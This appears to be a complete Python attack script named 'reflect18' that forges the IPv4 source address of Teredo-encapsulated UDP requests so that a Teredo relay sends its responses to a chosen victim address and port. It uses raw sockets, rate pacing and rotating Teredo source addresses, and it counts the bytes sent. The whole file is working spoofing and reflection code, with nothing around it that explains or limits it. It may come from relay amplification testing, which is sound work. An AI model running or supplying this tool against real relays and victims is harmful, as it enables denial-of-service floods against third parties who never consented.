#!/usr/bin/env python3
"""reflect18: Teredo datagrams whose outer IPv4 source is forged to VICTIM:VPORT, each carrying a small UDP request
from another Teredo address embedding that mapping (server 198.51.100.1, the flags field varies) to the native
service at [2001:db8:6::20]:7777. Raw socket; struct only.
  forge.py RELAY RPORT VICTIM VPORT COUNT RATE PER_SOURCE   -- PER_SOURCE requests from each forged address"""
import socket, struct, sys, time

def a6(text):
    return socket.inet_pton(socket.AF_INET6, text)

def teredo_address(server, flags, port, ipv4):
    mapped = bytes(~b & 0xFF for b in socket.inet_aton(ipv4))
    return struct.pack("!I4sHH", 0x20010000, socket.inet_aton(server), flags, ~port & 0xFFFF) + mapped

def checksum(data):
    data += bytes(len(data) % 2)
    total = sum((data[i] << 8) | data[i + 1] for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF ^ total or 0xFFFF

def udp6(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!I3xB", length, 17)
    head = struct.pack("!HHHH", sport, dport, length, 0)
    head = struct.pack("!HHHH", sport, dport, length, checksum(pseudo + head + payload))
    return struct.pack("!IHBB", 0x60000000, length, 17, 64) + src + dst + head + payload

def ip4_udp(src, sport, dst, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: allowed over IPv4
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, socket.inet_aton(src),
                       socket.inet_aton(dst)) + udp

relay, rport, victim, vport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
count, rate, per_source = int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
native = a6("2001:db8:6::20")
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
start = time.monotonic()
size = 0
wire = 0
for i in range(count):
    src = teredo_address("198.51.100.1", (i // per_source) & 0xFFFF, vport, victim)
    request = b"reflect18 request %06d......" % i  # 40 bytes
    pkt = ip4_udp(victim, vport, relay, rport, udp6(src, native, 40000, 7777, request))
    size += len(pkt) - 28  # the UDP payload, as the relay counts it
    wire += len(pkt)
    s.sendto(pkt, (relay, 0))
    due = start + (i + 1) / rate
    if due - time.monotonic() > 0.001:
        time.sleep(due - time.monotonic())
print("%d %d sent %d forged datagrams of %d IPv4 bytes (%d per Teredo source), %d bytes of Teredo payload, in %.2f s"
      % (count, wire, count, wire, per_source, size, time.monotonic() - start))
